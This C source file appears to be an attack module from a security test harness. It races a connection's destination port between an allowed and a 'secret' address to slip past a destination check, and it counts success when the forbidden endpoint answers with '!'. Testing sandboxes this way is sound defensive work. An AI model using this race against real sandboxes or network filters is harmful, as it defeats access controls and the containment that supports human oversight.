#include "attack.h"
#include "network.h"

static struct places races;
static struct sockaddr_in aim;
static volatile int over;

static void *keep_changing(void *none)
{
    for (unsigned turn = 0; !over; turn++)
        ((volatile struct sockaddr_in *)&aim)->sin_port = turn % 2 ? races.secret.sin_port : races.open.sin_port;
    return none;
}

static int attempt(const char *target, const char *workspace, const char *extra)
{
    /* The address is another one between the moment it is looked at and the moment it is used. */
    (void)target, (void)workspace;
    races = places_of(extra);
    aim = races.open;
    pthread_t other;
    if (pthread_create(&other, NULL, keep_changing, NULL) != 0)
        return 0;
    int reached = 0;
    for (int i = 0; i < 120 && !reached; i++) {
        int socket = tcp();
        struct pollfd event = {.fd = socket, .events = POLLIN};
        char byte = 0;
        if (connect(socket, (struct sockaddr *)&aim, sizeof aim) == 0 && poll(&event, 1, 1000) == 1 && recv(socket, &byte, 1, 0) == 1)
            reached = byte == '!';
        close(socket);
    }
    over = 1;
    pthread_join(other, NULL);
    return reached;
}
